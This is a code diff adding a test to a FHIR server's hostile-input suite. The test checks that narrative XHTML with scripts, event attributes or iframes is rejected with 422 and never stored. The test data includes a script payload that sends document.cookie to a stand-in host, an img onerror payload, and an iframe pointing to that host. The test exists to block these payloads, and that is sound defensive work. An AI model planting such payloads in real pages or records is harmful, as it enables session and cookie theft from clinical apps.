@@ -109,6 +109,42 @@ describe('hostile: the FHIR front door, second pass', () => {
     expect(ok.status).toBe(201);
   });
 
+  it('a narrative R4 forbids (a script, an event attribute, not an XHTML div) is 422 on its text.div, kept, never served back', async () => {
+    // Before: 201, and GET /fhir/ServiceRequest/{id} served the <script> and <img onerror> to
+    // whichever SMART app rendered the narrative (R4 narrative.html#xhtml, txt-1).
+    const xhtml = (inner: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>`;
+    for (const [placer, div] of [
+      [
+        'TXT-1',
+        xhtml('<p>Chest CT</p><script>fetch("https://x.example/"+document.cookie)</script>'),
+      ],
+      ['TXT-2', xhtml('<img src="x" onerror="alert(1)"/>')],
+      ['TXT-3', '<p>Chest CT</p>'],
+    ] as const) {
+      const res = await call(
+        adapter,
+        'POST',
+        '/fhir/ServiceRequest',
+        chestCtRequest(placer, { text: { status: 'generated', div } }),
+      );
+      expect(res.status).toBe(422);
+      expect(expressions(res.body)).toEqual(['ServiceRequest.text.div']);
+      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
+      expect(await ordersWith(placer)).toEqual([]);
+    }
+    // In a transaction, on the Patient entry: named there.
+    const tx = chestCtTransaction('txt-4');
+    (tx.entry[0]!.resource as Json).text = {
+      status: 'generated',
+      div: xhtml('<iframe src="https://x.example/"></iframe>'),
+    };
+    const bundle = await call(adapter, 'POST', '/fhir', tx);
+    expect(bundle.status).toBe(422);
+    expect(expressions(bundle.body)).toEqual(['Bundle.entry[0].resource.text.div']);
+    // The R4 examples' own narratives pass (the transaction's Patient and ImagingStudy carry them).
+    expect((await call(adapter, 'POST', '/fhir', chestCtTransaction('txt-ok'))).status).toBe(200);
+  });
+
   const patientOf = async (placer: string) =>
     (
       await db.query<{ request: { patient: { identifiers: Array<{ value: string }> } } }>(
